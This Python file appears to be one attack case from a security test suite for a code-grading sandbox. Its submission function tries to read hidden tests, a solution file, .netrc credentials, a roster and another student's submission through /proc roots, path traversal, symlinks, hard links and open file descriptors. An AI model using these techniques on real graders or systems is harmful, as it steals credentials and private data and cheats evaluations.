# ATTACK 130 links_and_proc
# group: D theft
# tries: reads the hidden tests, a solution, the home and a neighbour by links, by /proc and by descriptors of folders
import glob, os
WRONG = (123.456, None)
RUN = '@RUN@'
FILES = [RUN + '/course/problems/gradient_check/test_hidden.py', RUN + '/course/solutions/gradient_check.py',
         RUN + '/home/.netrc', RUN + '/roster.csv', RUN + '/submissions/000-right.py']
def gradient_check(analytic, numeric, tol=1e-6):
    ways = {'plain': '', 'own root': '/proc/self/root', 'first root': '/proc/1/root',
            'parent root': f'/proc/{os.getppid()}/root', 'up': '../' * 20, 'thread': '/proc/thread-self/root'}
    for file in FILES:
        for way, prefix in ways.items():
            try: print('ATTACK-LEAK', way, open(prefix + file).read(4000)[-200:])
            except OSError: pass
        for make in (os.symlink, os.link):
            try:
                make(file, 'link')
                print('ATTACK-LEAK', make.__name__, open('link').read(4000)[-200:])
            except OSError: pass
            try: os.unlink('link')
            except OSError: pass
        try:
            folder = os.open(os.path.dirname(file), os.O_PATH | os.O_DIRECTORY)
            inside = os.open(os.path.basename(file), os.O_RDONLY, dir_fd=folder)
            print('ATTACK-LEAK by a folder', os.read(inside, 4000)[-200:])
        except OSError: pass
    for fd in glob.glob('/proc/[0-9]*/fd/*')[:2000]:
        try:
            if os.path.isfile(fd) and 'python' not in os.readlink(fd):
                print('ATTACK-LEAK descriptor of', os.readlink(fd), open(fd, 'rb').read(200))
        except OSError: pass
    return WRONG
